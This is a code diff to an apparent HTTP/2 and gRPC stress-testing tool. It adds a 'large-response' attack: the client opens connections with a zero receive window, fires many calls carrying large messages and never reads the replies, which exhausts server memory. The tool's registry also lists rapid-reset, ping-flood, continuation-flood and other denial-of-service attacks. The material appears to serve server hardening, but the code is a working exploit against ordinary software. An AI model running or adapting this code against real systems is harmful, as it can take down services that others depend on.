@@ -408,6 +408,105 @@ def attack_zero_window(args, report, deadline):
     return conns
 
 
+def attack_large_response(args, report, deadline):
+    """A receive window of 0, then up to --streams sayHello calls per
+    connection, each with a --message-size name (so a reply as large), at
+    most 8 unanswered sends at a time; the replies are never read: whatever
+    the server keeps for a reply it cannot send stays until the stream or
+    the connection ends. Ends early once the server closed every connection."""
+    from h2.config import H2Configuration
+    from h2.connection import H2Connection
+    from h2.events import ConnectionTerminated, StreamReset, StreamEnded
+    from h2.settings import SettingCodes
+
+    body = b"\x0a" + varint(args.message_size) + b"x" * args.message_size
+    message = grpc_message(body)
+    conns = open_conns(args, report, deadline)
+    machines = []
+    for conn in conns:
+        machine = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
+        machine.initiate_connection()
+        machine.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
+        machine.pending = {}  # stream id -> bytes still to send
+        machine.opened = 0
+        machine.full = False  # at the server's concurrent-stream limit
+        machines.append((conn, machine))
+        conn.send(machine.data_to_send())
+
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", HELLO),
+               (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
+    report["answered"] = {}
+    rounds = 0
+    while time.monotonic() < deadline and rounds < 1_000_000:
+        if conns and all(conn.closed for conn in conns):
+            break  # the server closed every connection: nothing more to try
+        if args.until_sent and all((machine.opened >= args.streams or machine.full)
+                                   and not machine.pending
+                                   for conn, machine in machines if not conn.closed):
+            break  # every call sent: what the server keeps now, it keeps
+        rounds += 1
+        busy = False
+        for conn, machine in machines:
+            if conn.closed:
+                continue
+            try:
+                data = conn.sock.recv(65536)
+                if not data:
+                    conn.mark_closed()
+                    continue
+                for event in machine.receive_data(data):
+                    if isinstance(event, ConnectionTerminated):
+                        conn.count("goaway", event.error_code)
+                    elif isinstance(event, StreamReset):
+                        conn.count("rst", event.error_code)
+                        machine.pending.pop(event.stream_id, None)
+                    elif isinstance(event, StreamEnded):
+                        machine.pending.pop(event.stream_id, None)
+                    status = getattr(event, "headers", None)
+                    for name, value in status or []:
+                        if name == "grpc-status":
+                            report["answered"][value] = report["answered"].get(value, 0) + 1
+            except BlockingIOError:
+                pass
+            except Exception:  # the server closed or refused: counted below
+                conn.mark_closed()
+                continue
+            if machine.opened < args.streams and len(machine.pending) < 8:
+                try:
+                    stream = machine.get_next_available_stream_id()
+                    machine.send_headers(stream, headers)
+                    machine.pending[stream] = message
+                    machine.opened += 1
+                    report["streams"] += 1
+                    busy = True
+                except Exception:  # over the server's concurrent streams
+                    machine.full = True
+            if machine.state_machine.state.name == "CLOSED":  # a GOAWAY came
+                conn.mark_closed()
+                continue
+            for stream, rest in list(machine.pending.items()):
+                try:
+                    window = min(machine.local_flow_control_window(stream),
+                                 machine.max_outbound_frame_size)
+                    if window > 0:
+                        chunk, rest = rest[:window], rest[window:]
+                        machine.send_data(stream, chunk, end_stream=not rest)
+                        busy = True
+                except Exception:  # the stream (or the connection) is closed
+                    machine.pending.pop(stream, None)
+                    continue
+                if rest:
+                    machine.pending[stream] = rest
+                else:
+                    del machine.pending[stream]
+            out = machine.data_to_send()
+            if out and not conn.send(out):
+                continue
+        if not busy:
+            time.sleep(0.002)
+    return conns
+
+
 def attack_announced_length(args, report, deadline):
     """Streams that announce a message of --announce bytes and send 5."""
     def setup(conn):
@@ -459,6 +558,7 @@ ATTACKS = {
     "made-you-reset": attack_made_you_reset,
     "rapid-reset": attack_rapid_reset,
     "zero-window": attack_zero_window,
+    "large-response": attack_large_response,
     "announced-length": attack_announced_length,
     "ping-flood": attack_ping_flood,
     "continuation-flood": attack_continuation_flood,
@@ -477,6 +577,8 @@ def main():
     parser.add_argument("--message-size", type=int, default=1024 * 1024)
     parser.add_argument("--recv-buffer", type=int, default=0)
     parser.add_argument("--duration", type=float, default=2.0)
+    parser.add_argument("--until-sent", action="store_true",
+                        help="large-response: end once every call is sent")
     parser.add_argument("--reconnect", action="store_true",
                         help="replace each connection the server closes")
     args = parser.parse_args()
